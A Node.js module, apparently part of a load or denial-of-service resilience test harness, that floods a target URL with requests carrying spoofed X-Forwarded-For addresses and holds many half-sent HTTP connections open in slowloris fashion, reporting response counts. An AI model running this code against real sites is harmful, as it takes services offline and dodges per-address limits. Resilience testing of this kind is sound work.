// Attacks a site for a while with full load, and reports the responses. It is forked, and receives
// by message the name of the attack, the URL of the site, known facts about it, and the duration in
// ms.
import http from 'node:http';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { attacks } from './kinds.mjs';

/** @typedef {import('./kinds.mjs').Call} Call */
/** @typedef {Record<string, number>} Statuses responses by status; `none` for no response */

const AT_ONCE = 40;
const PATIENCE_MS = 30_000;
/** Number of connections opened or closed every 10 ms. */
const BATCH = 10;

/** An address in a separate network, as sent by a proxy. @param {number} n */
const addressOf = (n) => `${20 + ((n >> 16) & 127)}.${(n >> 8) & 255}.${n & 255}.1`;

/** @param {Call} call @param {number} n */
const headersOf = ({ headers = {} }, n) => ({ ...headers, 'x-forwarded-for': addressOf(n) });

/**
 * @param {string} url
 * @param {http.Agent} agent
 * @param {Call} call
 * @param {number} n
 * @returns {Promise<string>} the status
 */
const send = (url, agent, call, n) =>
  new Promise((resolve) => {
    const { method = 'GET', path, body } = call;
    const options = { agent, method, headers: headersOf(call, n), timeout: PATIENCE_MS };
    let status = 'none';
    const request = http.request(url + path, options, (response) => {
      status = String(response.statusCode);
      response.resume();
    });
    request.on('timeout', () => request.destroy());
    request.on('close', () => resolve(status));
    request.on('error', () => undefined);
    request.end(body);
  });

/**
 * Sends sequential requests over each of `atOnce` connections.
 * @param {import('./kinds.mjs').Attack} attack @param {string} url @param {import('./kinds.mjs').Site} site @param {number} ms
 */
async function flood({ atOnce = AT_ONCE, call }, url, site, ms) {
  const agent = new http.Agent({ keepAlive: true, maxSockets: atOnce });
  const end = performance.now() + ms;
  /** @type {Statuses} */
  const statuses = {};
  let count = 0;
  const work = async () => {
    while (performance.now() < end) {
      count += 1;
      const status = await send(url, agent, call(count, site), count);
      statuses[status] = (statuses[status] ?? 0) + 1;
    }
  };
  await Promise.all(Array.from({ length: atOnce }, work));
  agent.destroy();
  return statuses;
}

/**
 * Opens `held` connections, a thousand per second, and keeps them open.
 * @param {import('./kinds.mjs').Attack} attack
 * @param {string} url
 * @param {import('./kinds.mjs').Site} site
 * @param {number} ms
 */
async function hold({ held = 0, call }, url, site, ms) {
  const { hostname, port } = new URL(url);
  const end = performance.now() + ms;
  /** @type {Statuses} */
  const statuses = {};
  const sockets = [];
  while (sockets.length < held && performance.now() < end) {
    for (let n = 0; n < BATCH; n += 1) {
      const { method = 'GET', path, headers = {}, body } = call(n, site);
      const lines = Object.entries({ host: 'site', ...headers }).map(
        ([name, value]) => `${name}: ${value}\r\n`,
      );
      const rest = body === undefined ? '' : `\r\n${body}`;
      const socket = connect(Number(port), hostname);
      socket.on('error', () => undefined);
      socket.write(`${method} ${path} HTTP/1.1\r\n${lines.join('')}${rest}`);
      sockets.push(socket);
    }
    await pause(10);
  }
  await pause(Math.max(0, end - performance.now()));
  statuses.held = sockets.filter(({ destroyed }) => !destroyed).length;
  // Closing all of them in one turn would block the server.
  while (sockets.length > 0) {
    for (const socket of sockets.splice(0, BATCH)) socket.destroy();
    await pause(10);
  }
  return statuses;
}

process.once('message', (message) => {
  const { name, url, site, ms } =
    /** @type {{ name: string, url: string, site: import('./kinds.mjs').Site, ms: number }} */ (
      message
    );
  const attack = attacks.find((one) => one.name === name);
  if (attack === undefined) throw new Error(`There is no attack ${name}.`);
  const act = attack.held === undefined ? flood : hold;
  void act(attack, url, site, ms).then((statuses) =>
    process.send?.(statuses, () => process.exit(0)),
  );
});
